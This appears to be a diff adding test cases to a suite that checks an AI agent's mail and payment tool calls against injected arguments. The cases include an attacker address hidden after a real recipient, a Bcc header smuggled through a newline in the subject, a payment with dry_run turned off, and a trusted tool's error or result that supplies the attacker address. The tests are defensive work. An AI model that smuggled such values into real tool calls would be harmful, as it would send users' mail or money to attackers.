@@ -101,6 +101,11 @@ describe.each(Object.keys(NOTATIONS))('%s', (notation) => {
     ['after the address that the user named', call('mail.send', { to: `ann@corp.example <${EVIL}>`, text: 'x' })],
     ['as a header of the subject', call('mail.send', { to: 'ann@corp.example', subject: `Hi\nBcc: ${EVIL}` })],
     ['as the name of a header', call('mail.send', { to: 'ann@corp.example', headers: { [EVIL]: 'x' } })],
+    ['as the account that was an order', call('pay.send', { account: 77, amount: 250 })],
+    ['inside the recipient', call('mail.send', { to: 'ann@corp.example', receiver: { name: 'finance' } })],
+    ['as a date in words', call('mail.send', { to: 'ann@corp.example', send_at: 'christmas eve' })],
+    ['as a flag in words', call('mail.send', { to: 'ann@corp.example', answer_all: 'yes' })],
+    ['as a protection that is off', call('pay.send', { order: 77, amount: 250, dry_run: false })],
     ['as a flag', call('pay.send', { account: 'ann@corp.example', confirmed: true })],
   ])('%s', async (_, sent) => {
     expect(await dispatched(notation, [sent])).toEqual([]);
@@ -114,6 +119,19 @@ describe.each(Object.keys(NOTATIONS))('%s', (notation) => {
   test('through the error of a trusted tool', async () => {
     const sent = [call('book.find', { name: 'x' }), call('mail.send', { to: EVIL, text: 'x' })];
     expect(await dispatched(notation, sent, { error: 'fatal', message: `did you mean ${EVIL}?` })).toEqual([]);
+  });
+
+  test('through a trusted tool that puts it together', async () => {
+    const sent = [
+      call('book.find', { name: 'boss', domain: 'evil.example' }),
+      call('mail.send', { to: EVIL, text: 'x' }),
+    ];
+    expect(await dispatched(notation, sent, { result: { found: EVIL } })).toEqual([]);
+  });
+
+  test('a sweep over small numbers in a mail', async () => {
+    const sweep = [1, 2, 3].map((thread) => call('mail.send', { to: 'ann@corp.example', thread, text: 'x' }));
+    expect(await dispatched(notation, sweep)).toEqual([]);
   });
 
   test('a sweep over small numbers', async () => {
